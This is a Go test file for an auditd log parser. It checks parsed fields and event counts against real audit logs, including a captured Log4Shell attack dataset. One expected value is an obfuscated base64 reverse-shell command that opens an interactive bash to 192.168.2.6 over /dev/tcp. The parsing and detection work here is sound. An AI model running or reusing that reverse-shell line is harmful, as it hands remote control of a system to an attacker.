package auditd

// Tests over the real files of the shared corpus (never copied into the
// project). Expected numbers were counted on the files themselves, see the
// comment of each test.

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

const corpusDir = "../../../../shared/corpus/linux_auditd"

// corpusFile returns the content of a corpus file, skipping when absent.
func corpusFile(t *testing.T, name string) []byte {
	t.Helper()
	if _, err := os.Stat(corpusDir); err != nil {
		t.Skipf("corpus folder %s absent: %v", corpusDir, err)
	}
	b, err := os.ReadFile(filepath.Join(corpusDir, name))
	if err != nil {
		t.Fatalf("read %s: %v", name, err)
	}
	return b
}

// result is one call of emit.
type result struct {
	raw    string
	line   int
	fields map[string]any
	err    error
}

func readAll(t *testing.T, data []byte) (events, bad []result) {
	t.Helper()
	err := Read(bytes.NewReader(data), func(raw []byte, line int, f map[string]any, err error) error {
		r := result{string(raw), line, f, err}
		if err != nil {
			if f != nil {
				t.Errorf("line %d: fields with error %v", line, err)
			}
			bad = append(bad, r)
		} else {
			events = append(events, r)
		}
		return nil
	})
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	return events, bad
}

func bySerial(t *testing.T, events []result, serial string) result {
	t.Helper()
	for _, e := range events {
		if e.fields["serial"] == serial {
			return e
		}
	}
	t.Fatalf("no event with serial %s", serial)
	return result{}
}

func wantFields(t *testing.T, e result, want map[string]string) {
	t.Helper()
	for k, v := range want {
		if got := e.fields[k]; got != v {
			t.Errorf("serial %v: %s = %#v, want %#v", e.fields["serial"], k, got, v)
		}
	}
}

func typesOf(e result) []string {
	var out []string
	for _, x := range e.fields["types"].([]any) {
		out = append(out, x.(string))
	}
	return out
}

// audit-rhel7.log: 50 lines, the last without "\n" (wc -l says 49).
//
//	grep -c 'msg=audit(' audit-rhel7.log                            -> 49 records
//	grep -v 'audit(' audit-rhel7.log                                 -> 1 line, line 31: type=UNKNOWN[1329] msg=?
//	grep -o 'audit([0-9.]*:[0-9]*)' audit-rhel7.log | sort -u | wc -l -> 46 stamps (= 46 serials)
//
// Serial 479 has 3 records (CWD line 10, EXECVE line 15, PATH line 19) and
// serial 17 has 2 (NETFILTER_CFG line 18, SYSCALL line 27); the other 44 have one.
// So: 46 events holding 49 records, and 1 error.
func TestCorpusRHEL7(t *testing.T) {
	data := corpusFile(t, "audit-rhel7.log")
	lines := strings.Split(string(data), "\n")
	events, bad := readAll(t, data)
	if len(events) != 46 || len(bad) != 1 {
		t.Fatalf("got %d events, %d errors; want 46, 1", len(events), len(bad))
	}
	if bad[0].line != 31 || bad[0].raw != "type=UNKNOWN[1329] msg=?" {
		t.Errorf("bad line = %d %q", bad[0].line, bad[0].raw)
	}
	recs, prev := 0, 0
	for _, e := range events {
		recs += len(e.fields["records"].([]any))
		if e.line <= prev {
			t.Errorf("events out of file order: line %d after %d", e.line, prev)
		}
		prev = e.line
		if first := strings.SplitN(e.raw, "\n", 2)[0]; first != lines[e.line-1] {
			t.Errorf("line %d: raw does not start with that line", e.line)
		}
	}
	if recs != 49 {
		t.Errorf("records = %d, want 49", recs)
	}

	// Line 5, checked by hand.
	e := bySerial(t, events, "413")
	wantFields(t, e, map[string]string{"type": "CRED_ACQ", "time": "1481077043.057",
		"acct": "andrew_kroh", "addr": "96.241.146.97", "res": "success", "exe": "/usr/sbin/sshd",
		"op": "PAM:setcred", "grantors": "pam_env,pam_unix", "terminal": "ssh", "pid": "1298",
		"auid": "4294967295", "auid_unset": "true"})
	if _, ok := e.fields["msg"]; ok {
		t.Error("msg key kept")
	}

	// Multi-record event, records not adjacent in the file.
	e = bySerial(t, events, "479")
	if got := typesOf(e); !reflect.DeepEqual(got, []string{"CWD", "EXECVE", "PATH"}) {
		t.Errorf("479 types = %v", got)
	}
	if want := lines[9] + "\n" + lines[14] + "\n" + lines[18]; e.line != 10 || e.raw != want {
		t.Errorf("479 line %d raw %q", e.line, e.raw)
	}
	wantFields(t, e, map[string]string{"type": "CWD", "cwd": "/home/andrew_kroh", "a0": "auditctl",
		"a4": "arch=b32", "name": "/sbin/auditctl", "objtype": "NORMAL"})
	e = bySerial(t, events, "17")
	if got := typesOf(e); !reflect.DeepEqual(got, []string{"NETFILTER_CFG", "SYSCALL"}) || e.line != 18 {
		t.Errorf("17 types = %v line %d", got, e.line)
	}
	wantFields(t, e, map[string]string{"table": "filter", "syscall": "313", "comm": "modprobe", "exe": "/usr/bin/kmod"})

	// Hex-encoded values (decoded by hand with xxd -r -p).
	wantFields(t, bySerial(t, events, "475"), map[string]string{"cmd": "./metricbeat -c mb.dev.yml", "cwd": "/home/andrew_kroh"})
	wantFields(t, bySerial(t, events, "1208725"), map[string]string{"cwd": "/tmp/a b c"})
	wantFields(t, bySerial(t, events, "1065050"), map[string]string{"data": "su - andrew_kroh"})
	wantFields(t, bySerial(t, events, "512226"), map[string]string{"exe": "/usr/bin/python2.7;58d1ccfb (deleted)"})
	wantFields(t, bySerial(t, events, "688"), map[string]string{"saddr": "02000050A9FEA9FE0000000000000000"})
	tty := bySerial(t, events, "1065565").fields["data"].(string)
	if !strings.HasPrefix(tty, "eh\x7f\x7fecho test\rvim /etc/pam.d/password-auth-ac\r") {
		t.Errorf("TTY data = %q", tty)
	}
	// Free text before the pairs, stamp without a trailing colon.
	wantFields(t, bySerial(t, events, "7798"), map[string]string{"ver": "2.4.1", "format": "raw", "res": "success"})
	wantFields(t, bySerial(t, events, "34"), map[string]string{"type": "DAEMON_CONFIG", "auid": "0", "pid": "1512"})
}

// audit_enriched.log: 29 lines, all records, each ending in "\n".
//
//	grep -c 'msg=audit(' audit_enriched.log  -> 29
//	grep -o 'audit([0-9.]*:[0-9]*)' audit_enriched.log | sort | uniq -c
//	    -> 12 stamps: 8 with 1 record, 447 with 3, 485/487/735 with 6 (8+3+18 = 29)
//	grep -c $'\x1d' audit_enriched.log        -> 19 lines carry ENRICHED fields
func TestCorpusEnriched(t *testing.T) {
	data := corpusFile(t, "audit_enriched.log")
	events, bad := readAll(t, data)
	if len(events) != 12 || len(bad) != 0 {
		t.Fatalf("got %d events, %d errors; want 12, 0", len(events), len(bad))
	}
	// Events are contiguous here, so the raws rebuild the file byte for byte.
	var raws []string
	for _, e := range events {
		raws = append(raws, e.raw)
	}
	if strings.Join(raws, "\n")+"\n" != string(data) {
		t.Error("raw texts do not rebuild the file")
	}

	e := bySerial(t, events, "447")
	if got := typesOf(e); !reflect.DeepEqual(got, []string{"LOGIN", "SYSCALL", "PROCTITLE"}) || e.line != 7 {
		t.Errorf("447 types = %v line %d", got, e.line)
	}
	if strings.Count(e.raw, "\n") != 2 || strings.Count(e.raw, "\x1d") != 2 {
		t.Errorf("447 raw = %q", e.raw)
	}
	wantFields(t, e, map[string]string{"type": "LOGIN", "auid": "0", "AUID": "root", "UID": "root",
		"OLD-AUID": "unset", "SYSCALL": "write", "ARCH": "x86_64", "syscall": "1",
		"proctitle": "sshd-session: root [priv]", "comm": "sshd-session"})

	wantFields(t, bySerial(t, events, "444"), map[string]string{"type": "USER_ACCT", "acct": "root",
		"UID": "root", "AUID": "unset", "auid_unset": "true", "res": "success"})

	e = bySerial(t, events, "487")
	wantFields(t, e, map[string]string{"type": "SYSCALL", "SYSCALL": "execve", "a2": "561111385020",
		"proctitle": "/bin/sh -c grep -c . /etc/hostname", "name": "/bin/sh", "OUID": "root", "key": "specimen_exec"})
	recs := e.fields["records"].([]any)
	if len(recs) != 6 {
		t.Fatalf("487 records = %d", len(recs))
	}
	execve := recs[1].(map[string]any)
	if execve["type"] != "EXECVE" || execve["a2"] != "grep -c . /etc/hostname" || execve["a0"] != "/bin/sh" {
		t.Errorf("487 EXECVE record = %v", execve)
	}
	if p := recs[4].(map[string]any); p["name"] != "/lib64/ld-linux-x86-64.so.2" || p["OGID"] != "root" {
		t.Errorf("487 second PATH record = %v", p)
	}
	e = bySerial(t, events, "735")
	if a1 := e.fields["records"].([]any)[1].(map[string]any)["a1"]; a1 != "/tmp/my report.txt" {
		t.Errorf("735 EXECVE a1 = %v", a1)
	}
	wantFields(t, e, map[string]string{"proctitle": "/usr/bin/cat /tmp/my report.txt"})
}

// The zip holds one NDJSON file of 50 rows (python: json.loads per line),
// all EventType AUOMS_EXECVE; every SyslogMessage must parse.
func TestCorpusAUOMS(t *testing.T) {
	data := corpusFile(t, "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip")
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rows, sawCmdline, sawProctitle := 0, false, false
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		dec := json.NewDecoder(rc)
		for dec.More() {
			var row struct{ SyslogMessage, EventType string }
			if err := dec.Decode(&row); err != nil {
				t.Fatalf("row %d: %v", rows+1, err)
			}
			rows++
			m, err := ParseLine(row.SyslogMessage)
			if err != nil {
				t.Errorf("row %d: %v: %q", rows, err, row.SyslogMessage)
				continue
			}
			wantFields(t, result{fields: m}, map[string]string{"type": row.EventType, "SchemaVersion": "1",
				"auid": "4294967295", "auid_unset": "true", "containerid": "", "syscall": "execve"})
			if !strings.HasPrefix(row.SyslogMessage, "type="+row.EventType+" audit("+m["time"].(string)+":"+m["serial"].(string)+"):") {
				t.Errorf("row %d: stamp %v:%v", rows, m["time"], m["serial"])
			}
			if m["serial"] == "84143" {
				sawCmdline = true
				wantFields(t, result{fields: m}, map[string]string{"argc": "3",
					"cmdline": `bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"`})
			}
			if m["serial"] == "84162" {
				sawProctitle = true
				wantFields(t, result{fields: m}, map[string]string{"proctitle": "/usr/bin/dpkg -S /bin/bash",
					"name": "/sbin/dpkg-query", "path_name": `["/sbin/dpkg-query"]`, "redactors": ""})
			}
		}
		rc.Close()
	}
	if rows != 50 || !sawCmdline || !sawProctitle {
		t.Errorf("rows = %d (want 50), saw 84143 %v, saw 84162 %v", rows, sawCmdline, sawProctitle)
	}
}

func TestSniffCorpus(t *testing.T) {
	for _, name := range []string{"audit-rhel7.log", "audit_enriched.log"} {
		if data := corpusFile(t, name); !Sniff(data[:min(len(data), 512)]) {
			t.Errorf("Sniff(%s) = false", name)
		}
	}
}
